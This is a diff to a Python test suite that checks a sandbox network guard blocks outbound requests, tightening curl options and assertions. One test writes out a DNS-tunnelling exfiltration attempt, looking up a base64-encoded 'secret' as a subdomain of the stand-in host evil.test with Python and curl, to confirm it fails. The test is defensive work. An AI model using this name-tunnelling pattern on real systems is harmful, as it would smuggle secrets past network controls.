@@ -18,7 +18,7 @@ from factotum.testing.provider.http import Answer, HttpRequest
 from factotum.testing.web import LoopbackWeb, json_answer
 
 OPEN = NetworkLayers([Network(mode="open")])
-CODE = "curl -sS -o /dev/null -w '%{http_code}' --max-time 10"
+CODE = "curl -s -o /dev/null -w '%{http_code}' --max-time 10"
 
 
 @dataclass
@@ -172,9 +172,8 @@ async def test_attacks_from_inside(outside: Outside, attack: str) -> None:
         target = url.replace("$", str(outside.web.port + 1))  # the guard's allowance is for one port alone
         assert allowed not in target
         for how in ("", "--proxytunnel"):
-            # `curl` normalises some hosts itself; --proxy with an empty no_proxy leaves them to the proxy.
             code = await output(sandbox, f"NO_PROXY= no_proxy= {CODE} -g {how} '{target}'")
-            assert code[:3] in {"403", "000"}, (url, code)
+            assert code in {"403", "000"}, (url, code)
             assert (await outside.last())[2:] in {
                 ("refused", "address_refused"),
                 ("failed", "host_unknown"),
@@ -186,7 +185,7 @@ async def test_attack_42_a_tunnel_of_names(outside: Outside) -> None:
     """There is no DNS inside, and outside nobody asks for a name that is not allowed."""
     sandbox, _ = await outside.open(NetworkLayers([Network(mode="allow", hosts=("ok.example.com",))]))
     lookup = "import socket; print(socket.getaddrinfo('c2VjcmV0.evil.test', 80))"
-    assert "Error" in await output(sandbox, f'python3 -c "{lookup}" 2>&1')
+    assert "gaierror" in await output(sandbox, f'python3 -c "{lookup}" 2>&1')
     port = outside.web.port
     for how in ("", "--proxytunnel"):
         await output(sandbox, f"{CODE} {how} http://c2VjcmV0.evil.test:{port}/")
